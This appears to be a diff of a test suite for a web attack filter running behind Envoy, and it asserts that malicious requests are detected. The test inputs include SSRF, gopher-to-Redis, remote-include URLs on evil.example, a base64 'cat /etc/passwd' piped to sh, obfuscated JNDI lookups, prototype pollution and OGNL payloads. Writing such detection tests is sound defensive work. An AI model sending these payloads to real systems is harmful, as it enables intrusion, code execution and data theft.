@@ -176,15 +176,20 @@ test("the newer families are detected where attackers put them", async () => {
   await expectDetected({ path: "/preview", headers: form, body: "link=" + q("http://[::ffff:127.0.0.1]/admin") }, "ssrf", "body.form:link");
   await expectDetected({ path: "/", headers: { "x-forwarded-host": "http://metadata.google.internal/computeMetadata/v1/" } }, "ssrf", "header:x-forwarded-host");
   await expectDetected({ path: "/proxy/" + q("http://2130706433/") }, "ssrf", "path");
+  await expectDetected({ path: "/fetch?u=" + q("gopher://127.0.0.1:6379/_SET") }, "ssrf", "query:u");
   // rfi: query, form, cookie.
   await expectDetected({ path: "/index.php?file=" + q("http://evil.example/shell.txt?") }, "rfi", "query:file");
   await expectDetected({ path: "/load", headers: form, body: "tpl=" + q("ftp://evil.example/pub/x.php") }, "rfi", "body.form:tpl");
   await expectDetected({ path: "/", headers: { cookie: "skin=" + q("\\\\attacker\\share\\shell.php") } }, "rfi", "cookie:skin");
+  // rfi by the parameter's name: any web URL as a page or template to include (query, form).
+  await expectDetected({ path: "/index.php?page=" + q("http://evil.example/x") }, "rfi", "query:page");
+  await expectDetected({ path: "/render", headers: form, body: "template=" + q("https://evil.example/t") }, "rfi", "body.form:template");
   // protopollution: query name, JSON key, form name, path segment.
   await expectDetected({ path: "/api/settings?__proto__[isAdmin]=true" }, "protopollution", "query-name");
   await expectDetected({ path: "/api/merge", headers: json, body: '{"user":{"__proto__":{"role":"admin"}}}' }, "protopollution", "body.json:$.user.__proto__");
   await expectDetected({ path: "/api/profile", headers: form, body: "constructor[prototype][admin]=1" }, "protopollution", "body.form:constructor[prototype][admin]");
   await expectDetected({ path: "/api/__proto__/x" }, "protopollution", "path");
+  await expectDetected({ path: "/api/set/constructor/prototype/isAdmin" }, "protopollution", "path");
   // sessionfixation: query name, form value.
   await expectDetected({ path: "/login?PHPSESSID=attacker0123" }, "sessionfixation", "query-name");
   await expectDetected({ path: "/contact", headers: form, body: "msg=" + q("Set-Cookie: JSESSIONID=fixated") }, "sessionfixation", "body.form:msg");
@@ -196,6 +201,16 @@ test("the newer families are detected where attackers put them", async () => {
   await expectDetected({ path: "/ping", headers: form, body: "host=" + q("| echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh") }, "cmdi", "body.form:host");
   await expectDetected({ path: "/", headers: { cookie: "lang=" + q("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}") } }, "jndi", "cookie:lang");
   await expectDetected({ path: "/api/log", headers: json, body: JSON.stringify({ msg: "${${lower:j}ndi:${lower:l}dap://x/a}" }) }, "jndi", "body.json:$.msg");
+});
+
+test("Referer: Envoy removes one that is no URL before any filter; an attack inside a URL is blocked", async () => {
+  // Envoy's header sanitizing drops an invalid Referer (an OGNL block is not a URL): neither the filter
+  // nor the upstream ever sees it, so there is nothing to block.
+  const r = await stack.sendHttp("/echo", { headers: { referer: "%{(#_memberAccess['allowStaticMethodAccess']=true)}" } });
+  assert.equal(r.status, 200);
+  assert.equal(JSON.parse(r.body).headers.referer, undefined, "the upstream got no Referer");
+  // The same expression escaped inside a valid URL reaches the filter, which decodes and blocks it.
+  await expectDetected({ path: "/", headers: { referer: "https://x.example/list?redirect=%25%7B(%23_memberAccess%5B'allowStaticMethodAccess'%5D%3Dtrue)%7D" } }, "java", "header:referer");
 });
 
 test("benign shapes that look like attacks pass", async () => {
